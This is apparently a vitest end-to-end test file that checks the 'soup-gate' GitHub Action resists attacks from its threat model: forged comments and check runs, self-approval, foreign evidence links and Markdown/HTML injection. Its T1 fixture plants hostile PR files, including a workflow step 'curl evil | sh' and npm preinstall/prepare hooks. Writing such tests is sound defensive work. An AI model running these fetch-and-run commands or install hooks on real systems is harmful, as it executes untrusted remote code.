// Attacks on the gate end to end (dist/index.js against the fake GitHub), one per threat in
// THREAT-MODEL.md: each shows the attack fails, or — marked `.fails` — documents a residual risk.
import { mkdtemp, readdir, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { micromark } from 'micromark';
import { gfm, gfmHtml } from 'micromark-extension-gfm';
import { afterEach, describe, expect, it } from 'vitest';
import { encodeState } from '../../src/gate/state.js';
import { COMMENT_MARKER } from '../../src/documents/comment.js';
import { BOT_TOKEN, GITHUB_ACTIONS_APP } from '../fakes/github-server.js';
import { runAction } from '../fakes/run-action.js';
import { issueCommentEvent } from '../fakes/webhook-events.js';
import { PAYLOADS } from '../hostile/attacks/markup-injection.js';
import {
  addEvidence,
  BASE,
  BUMPED,
  gateRuns,
  itemIds,
  openPr,
  storedState,
  tickedItems,
} from '../hostile/e2e-scenario.js';
import {
  botComment,
  editComment,
  gateCheck,
  POLICY,
  prEvent,
  REPO,
  run,
  startHarness,
  tickAll,
  type Harness,
} from './gate-harness.js';

let h: Harness;
afterEach(async () => {
  await h?.close();
});

const EVIL_APP = { id: 666, slug: 'evil-app', name: 'Evil' };

/** A state blob claiming every item of the comment ticked by qa-lead. */
function forgedState(ids: string[], sha: string, pr = 7): string {
  return encodeState({
    version: 1,
    pr,
    ticks: ids.map((item) => ({ item, by: 'qa-lead', at: '2024-05-01T12:00:00Z', sha, target: 'x' })),
    notes: [],
  });
}

function inert(markdown: string): void {
  const html = micromark(markdown, {
    allowDangerousHtml: true,
    extensions: [gfm()],
    htmlExtensions: [gfmHtml()],
  });
  expect(html).not.toMatch(/<(img|script|iframe|svg|style|object|embed|form)\b/i);
  expect(html).not.toMatch(/<a\b[^>]*href="(?!https:\/\/)/i);
  expect(html).not.toMatch(/<[a-z][^>]*\son[a-z]+\s*=/i);
  // GitHub turns @name into a mention everywhere but inside <pre>, <code>, code blocks and links.
  // A fence counts only where the rendered HTML has it as a code block.
  const fences = markdown.match(/^(`{3,})[^\n]*\n[\s\S]*?\n\1$/gm) ?? [];
  expect((html.match(/<pre><code/g) ?? []).length).toBeGreaterThanOrEqual(fences.length);
  let outside = markdown.replace(/<(pre|code)>[\s\S]*?<\/\1>/g, '');
  for (const fence of fences) outside = outside.replace(fence, '');
  expect(outside).not.toMatch(/@[A-Za-z0-9]/);
}

describe('T1 PR code never runs: the action reads the PR through the API only', () => {
  it('starts no child process, writes only the runner files, leaves the workspace empty', async () => {
    h = await startHarness();
    const hostileFiles = {
      'package.json': JSON.stringify({
        name: 'x',
        scripts: { preinstall: 'touch /tmp/soup-gate-pwned', prepare: 'touch pwned' },
      }),
      '.npmrc': 'ignore-scripts=false\n',
      '.github/workflows/evil.yml': 'on: push\njobs: {a: {runs-on: x, steps: [{run: "curl evil | sh"}]}}\n',
      '.gitattributes': '* filter=evil\n',
    };
    const base = h.repo.commit({ files: { ...(await baseFiles()) }, branch: 'main' });
    const head = h.repo.commit({ files: { ...(await baseFiles(BUMPED)), ...hostileFiles }, parents: [base] });
    h.repo.addPull({ number: 7, baseSha: base, headSha: head, user: 'mallory', title: 'x' });
    const workspace = await mkdtemp(join(tmpdir(), 'soup-gate-workspace-'));
    const audit = join(await mkdtemp(join(tmpdir(), 'soup-gate-audit-')), 'audit.json');
    try {
      const result = await runAction({
        event: prEvent(h, 7, 'opened'),
        apiUrl: h.gh.url,
        token: BOT_TOKEN,
        inputs: { 'osv-url': h.osv.url, 'deps-dev-url': h.deps.url },
        cwd: workspace,
        env: {
          NODE_OPTIONS: `--require ${resolve(import.meta.dirname, '../hostile/audit-preload.cjs')}`,
          SOUP_AUDIT_LOG: audit,
        },
      });
      expect(result.code, result.stdout + result.stderr).toBe(0);
      const log = JSON.parse(await readFile(audit, 'utf8')) as { spawned: string[]; written: string[] };
      expect(log.spawned).toEqual([]);
      const runnerTemp = /RUNNER_TEMP|soup-gate-run-/;
      for (const path of log.written) expect(path, `wrote ${path}`).toMatch(runnerTemp);
      expect(await readdir(workspace)).toEqual([]);
      // Only reads of the repository, and the gate's own writes (check run, comment).
      const writes = h.gh.requests.filter((r) => r.method !== 'GET').map((r) => `${r.method} ${r.path}`);
      expect(writes.sort()).toEqual([
        `POST /repos/${REPO}/check-runs`,
        `POST /repos/${REPO}/issues/7/comments`,
      ]);
    } finally {
      await rm(workspace, { recursive: true, force: true });
    }
  });
});

async function baseFiles(packages = BASE): Promise<Record<string, string>> {
  const { npmLock } = await import('../support/lockfile-text.js');
  const { lock, manifest } = npmLock(packages);
  return { 'package-lock.json': lock, 'package.json': manifest, '.github/soup-gate.yml': POLICY };
}

describe('T2 forged marker comment', () => {
  it("an outsider's comment with the marker, ticked boxes and a forged state blob carries nothing", async () => {
    h = await startHarness();
    const { head } = openPr(h);
    addEvidence(h, head);
    await run(h, prEvent(h, 7, 'opened'));
    const ids = itemIds(botComment(h, 7).body);
    expect(ids).toHaveLength(6);
    const forged = h.repo.addComment(
      7,
      `${COMMENT_MARKER}\n${ids.map((id) => `- [x] ok <!-- soup-gate:item ${id} -->`).join('\n')}\n${forgedState(ids, head)}\n<!-- soup-gate:state-ref check-run=1 -->`,
      'mallory',
    );
    const edited = h.repo.editComment(forged.id, `${forged.body}\n`);
    const result = await run(
      h,
      issueCommentEvent({
        action: 'edited',
        repo: REPO,
        issueNumber: 7,
        comment: { id: forged.id, body: edited.comment.body, user: 'mallory' },
        from: edited.from,
        sender: 'mallory',
        defaultBranchSha: h.repo.branchSha('main')!,
      }),
    );
    expect(result.stdout).toContain("the edited comment is not soup-gate's");
    await run(h, prEvent(h, 7, 'edited'));
    expect(tickedItems(h, head)).toEqual([]);
    expect(gateCheck(h, head).conclusion).toBe('failure');
    expect(botComment(h, 7).body.match(/^- \[x\]/gm)).toBeNull();
  });
});

describe('T3 edits of the bot comment', () => {
  it('a hidden state blob pasted into the bot comment is reverted and never read', async () => {
    h = await startHarness();
    const { head } = openPr(h);
    addEvidence(h, head);
    await run(h, prEvent(h, 7, 'opened'));
    const ids = itemIds(botComment(h, 7).body);
    await run(
      h,
      editComment(h, 7, (b) => `${b}\n${forgedState(ids, head)}`, 'qa-lead'),
    );
    expect(tickedItems(h, head)).toEqual([]);
    expect(botComment(h, 7).body).not.toContain('soup-gate:state ');
    expect(botComment(h, 7).body).toContain(
      "an edit by <code>qa-lead</code> to this comment's text was reverted",
    );
    expect(gateCheck(h, head).conclusion).toBe('failure');
  });

  it("a state-ref pointer moved to another app's check run, or to another PR's, is not trusted on a new head", async () => {
    h = await startHarness();
    const { head } = openPr(h);
    await run(h, prEvent(h, 7, 'opened'));
    const ids = itemIds(botComment(h, 7).body);
    // Forged states: one by another app, one by the bot but for PR 8.
    const evil = h.repo.addCheckRun({
      name: 'soup-gate',
      headSha: head,
      status: 'completed',
      conclusion: 'success',
      app: EVIL_APP,
      output: { text: forgedState(ids, head) },
    });
    const otherPr = h.repo.addCheckRun({
      name: 'soup-gate',
      headSha: head,
      status: 'completed',
      conclusion: 'success',
      output: { text: forgedState(ids, head, 8) },
    });
    for (const target of [evil.id, otherPr.id]) {
      const pushed = h.repo.commit({
        files: { ...(await baseFiles(BUMPED)), 'README.md': `push ${target}\n` },
        parents: [h.repo.pulls.get(7)!.head.sha],
      });
      h.repo.pulls.get(7)!.head.sha = pushed;
      addEvidence(h, pushed);
      const comment = botComment(h, 7);
      h.repo.editComment(comment.id, comment.body.replace(/check-run=\d+/, `check-run=${target}`));
      await run(h, prEvent(h, 7, 'synchronize'));
      expect(tickedItems(h, pushed)).toEqual([]);
      expect(gateCheck(h, pushed).conclusion).toBe('failure');
    }
  });
});

describe('T4 forged state check run', () => {
  it("another app's soup-gate check run with a forged all-ticked state is ignored", async () => {
    h = await startHarness();
    const { head } = openPr(h);
    addEvidence(h, head);
    await run(h, prEvent(h, 7, 'opened'));
    const ids = itemIds(botComment(h, 7).body);
    h.repo.addCheckRun({
      name: 'soup-gate',
      headSha: head,
      status: 'completed',
      conclusion: 'success',
      app: EVIL_APP,
      output: { text: forgedState(ids, head) },
    });
    const result = await run(h, prEvent(h, 7, 'edited'));
    expect(result.outputs.gate).toBe('fail');
    expect(storedState(h, head)?.ticks).toEqual([]);
    const ours = gateRuns(h, head).filter((r) => r.app.slug === GITHUB_ACTIONS_APP.slug);
    expect(ours[0]!.conclusion).toBe('failure');
  });

  it('with a dedicated app (bot-app), a soup-gate run forged through GITHUB_TOKEN is ignored', async () => {
    h = await startHarness();
    const app = { id: 4242, slug: 'soup-gate-app', name: 'soup-gate' };
    h.gh.addToken('ghs_soup_gate_app', {
      login: 'soup-gate-app[bot]',
      type: 'Bot',
      permissions: 'write',
      app,
    });
    const { head } = openPr(h);
    addEvidence(h, head);
    const inputs = { 'bot-app': app.slug, 'bot-login': 'soup-gate-app[bot]' };
    await run(h, prEvent(h, 7, 'opened'), 'ghs_soup_gate_app', inputs);
    const body = h.repo.commentsOn(7).find((c) => c.user === 'soup-gate-app[bot]')!.body;
    h.repo.addCheckRun({
      name: 'soup-gate',
      headSha: head,
      status: 'completed',
      conclusion: 'success',
      output: { text: forgedState(itemIds(body), head) },
    });
    const result = await run(h, prEvent(h, 7, 'edited'), 'ghs_soup_gate_app', inputs);
    expect(result.outputs.gate).toBe('fail');
    expect(storedState(h, head, 7, app.slug)?.ticks).toEqual([]);
  });

  // Residual risk R1 (THREAT-MODEL.md): with the default bot-app (github-actions), any workflow of
  // the repository using GITHUB_TOKEN with checks: write -- including one a same-repo PR author
  // adds in their own branch under `pull_request` -- writes check runs as the same app.
  it.fails(
    'RESIDUAL R1: with the default bot-app, a soup-gate run forged by another workflow is not trusted',
    async () => {
      h = await startHarness();
      const { head } = openPr(h);
      addEvidence(h, head);
      await run(h, prEvent(h, 7, 'opened'));
      const ids = itemIds(botComment(h, 7).body);
      h.repo.addCheckRun({
        name: 'soup-gate',
        headSha: head,
        status: 'completed',
        conclusion: 'success',
        output: { text: forgedState(ids, head) },
      });
      const result = await run(h, prEvent(h, 7, 'edited'));
      expect(result.outputs.gate).toBe('fail');
    },
  );
});

describe('T5 self-approval', () => {
  it("the PR author's ticks are reverted whatever the login's case", async () => {
    h = await startHarness();
    const { head } = openPr(h, { author: 'dev' });
    addEvidence(h, head);
    await run(h, prEvent(h, 7, 'opened'));
    await run(h, editComment(h, 7, tickAll, 'DEV'));
    expect(tickedItems(h, head)).toEqual([]);
    expect(gateCheck(h, head).conclusion).toBe('failure');
  });

  it('ticks by an outsider (no access) and a read-only collaborator are reverted', async () => {
    h = await startHarness();
    const { head } = openPr(h);
    addEvidence(h, head);
    await run(h, prEvent(h, 7, 'opened'));
    for (const who of ['mallory', 'intern']) {
      await run(h, editComment(h, 7, tickAll, who));
      expect(tickedItems(h, head)).toEqual([]);
    }
    expect(gateCheck(h, head).conclusion).toBe('failure');
  });
});

describe('T6 label applied by a non-reviewer', () => {
  it('the anomaly-review label applied by the PR author does not count', async () => {
    h = await startHarness();
    const policy = POLICY.replace('require-anomaly-label: when-anomalies', 'require-anomaly-label: always');
    const { head } = openPr(h, { author: 'dev', policy });
    addEvidence(h, head);
    await run(h, prEvent(h, 7, 'opened'));
    await run(h, editComment(h, 7, tickAll, 'qa-lead'));
    h.repo.addLabel(7, 'soup:anomalies-reviewed', 'dev');
    const result = await run(h, prEvent(h, 7, 'labeled', { label: 'soup:anomalies-reviewed' }));
    expect(result.outputs.gate).toBe('fail');
    expect(JSON.parse(result.outputs.missing!).join('\n')).toMatch(
      /does not count: applied by <code>dev<\/code>/,
    );
    // Re-applied by a reviewer, the label counts: the label is no longer what blocks.
    h.repo.removeLabel(7, 'soup:anomalies-reviewed', 'qa-lead');
    h.repo.addLabel(7, 'soup:anomalies-reviewed', 'qa-lead');
    const ok = await run(h, prEvent(h, 7, 'labeled', { label: 'soup:anomalies-reviewed' }));
    expect(JSON.parse(ok.outputs.missing!).join('\n')).not.toMatch(/label/);
  });
});

describe('T7 evidence from elsewhere', () => {
  it('rejects a run of another repository, one linked under our URL but belonging to a fork, and a failed run', async () => {
    h = await startHarness();
    const { head } = openPr(h);
    const fork = h.repo.addWorkflowRun({
      headSha: head,
      status: 'completed',
      conclusion: 'success',
      repo: 'mallory/infusion-pump',
    });
    const failed = h.repo.addWorkflowRun({ headSha: head, status: 'completed', conclusion: 'failure' });
    h.repo.pulls.get(7)!.body = [
      `https://github.com/mallory/infusion-pump/actions/runs/${fork.id}`,
      `https://github.com/${REPO}/actions/runs/${fork.id}`,
      `https://github.com/${REPO}/actions/runs/${failed.id}`,
      `https://github.com/${REPO}/actions/runs/999999999`,
    ].join('\n');
    await run(h, prEvent(h, 7, 'opened'));
    await run(h, editComment(h, 7, tickAll, 'qa-lead'));
    const result = await run(h, prEvent(h, 7, 'edited'));
    expect(result.outputs.gate).toBe('fail');
    const missing = JSON.parse(result.outputs.missing!).join('\n') as string;
    expect(missing).toContain('is from another repository');
    expect(missing).toContain('is <code>failure</code>');
    expect(missing).toContain('does not exist in this repository');
  });
});

describe('T9 Markdown/HTML injection', () => {
  it('hostile names, versions and resolved URLs are inert in the comment, the check run and the job summary', async () => {
    h = await startHarness();
    const hostile = PAYLOADS.map((p, i) => ({
      name: `${p}${i}`,
      version: i % 2 ? `1.0.${i}` : p,
      direct: true,
    }));
    const { head } = openPr(h, { head: [...BUMPED, ...hostile] });
    const result = await run(h, prEvent(h, 7, 'opened'));
    expect(result.code, result.stdout).toBe(0);
    const body = botComment(h, 7).body;
    inert(body);
    inert(result.summary);
    inert(gateRuns(h, head)[0]!.output.summary ?? '');
    expect(itemIds(body)).toHaveLength(6 + 3 * hostile.length);
  });
});
